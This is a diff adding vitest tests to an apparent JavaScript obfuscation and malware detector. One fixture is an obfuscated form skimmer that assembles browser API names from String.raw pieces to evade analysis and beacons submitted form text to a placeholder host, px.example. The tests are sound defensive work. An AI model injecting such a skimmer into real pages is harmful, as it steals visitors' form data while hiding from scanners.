@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { decodeEntities, escapedTexts } from '../../detector/deobfuscate/decode.ts'
+import { analyzeScript } from '../../detector/index.ts'
 import { stringArrayEdits } from '../../detector/deobfuscate/string-array.ts'
 import { parseStrict } from '../../detector/parse.ts'
 import { sweepsInputs } from '../../detector/patterns.ts'
@@ -44,5 +45,27 @@ describe("javascript-obfuscator's string arrays, fast path", () => {
       var d=function(i){i=i-0x0;var s=t[i];return s};document.title=d('0x0')`
     const edits = stringArrayEdits(parseStrict(source) as never, source) ?? []
     expect(edits.map((e) => e.text).join(' ')).not.toContain('second')
+  })
+})
+
+describe('what sends a file to the detonation chamber', () => {
+  // names spelled from String.raw pieces, which the evaluator does not read
+  const built = `(function (g, r) {
+    var j = function () { return [].slice.call(arguments).join('') }
+    var I = g[j(r\`Im\`, r\`age\`)], R = g[j(r\`Ref\`, r\`lect\`)]
+    var D = g[j(r\`docu\`, r\`ment\`)], E = g[j(r\`encodeURI\`, r\`Component\`)]
+    D.addEventListener('submit', function (e) { R.construct(I, []).src = '//px.example/p?d=' + E(e.target.innerText) }, true)
+  })(window, String.raw)`
+  it('a script reaching browser APIs by names it builds on the global object', () => {
+    expect(analyzeScript(built).triage ?? []).toContain(
+      'reads browser APIs off the global object by names it builds at run time',
+    )
+  })
+  it('not a script reading globals by a name it was given', () => {
+    const given = `function lookup(name) { return window[name] || self[name] || globalThis[name] }
+      lookup('jQuery'); lookup('Zepto'); lookup('Sizzle'); lookup('ender')`
+    expect(analyzeScript(given).triage ?? []).not.toContain(
+      'reads browser APIs off the global object by names it builds at run time',
+    )
   })
 })
